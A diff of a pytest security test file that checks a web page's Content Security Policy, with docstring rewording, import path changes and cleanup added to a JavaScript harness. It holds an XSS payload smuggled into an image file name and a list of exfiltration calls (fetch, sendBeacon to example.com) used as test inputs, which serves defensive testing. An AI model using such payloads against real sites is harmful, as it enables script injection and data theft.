@@ -1,6 +1,6 @@
-"""What is hostile stays what it is, text or a refusal: in the page, in file names, from elsewhere.
+"""Hostile input stays text or is refused: in the page, in file names, from other sites.
 
-That a visit asks nobody but its own site: test_privacy.py; in three engines: test_engines.py.
+That a visit requests only its own site: test_privacy.py; in three engines: test_engines.py.
 Hostile pictures and model files: tests/fuzz.
 """
 
@@ -8,9 +8,9 @@ from html.parser import HTMLParser
 
 import pytest
 from conftest import SITE
-from gestures import open_picture, open_pictures
-from handwriting import mnist_digits
-from sight import remark
+from support.gestures import open_picture, open_pictures
+from support.handwriting import mnist_digits
+from support.page_state import remark
 
 POLICY = {
     "default-src": "'self'",
@@ -26,7 +26,7 @@ POLICY = {
 }
 INTRUSION = "window.intruded = true"
 NAME = f'<img src=x onerror="{INTRUSION}"><b>seven.png'
-# What a page might send something out with, and the directive that stands in its way.
+# Ways to send data out of a page, and the policy's directive that blocks each.
 WAYS_OUT = {
     "fetch('https://example.com/').catch(() => 0)": "connect-src",
     "navigator.sendBeacon('https://example.com/', 'ink')": "connect-src",
@@ -43,10 +43,15 @@ WAYS_OUT = {
 REFUSED = """async (attempt) => {
     const violation = new Promise(resolve => addEventListener(
         "securitypolicyviolation", event => resolve(event.effectiveDirective), {once: true}));
-    const added = (name, attributes) =>
-        document.body.appendChild(Object.assign(document.createElement(name), attributes));
+    const parts = [];
+    const added = (name, attributes) => {
+        parts.push(Object.assign(document.createElement(name), attributes));
+        return document.body.appendChild(parts.at(-1));
+    };
     eval(attempt);
-    return violation;
+    const directive = await violation;
+    parts.forEach(part => part.remove());
+    return directive;
 }"""
 
 
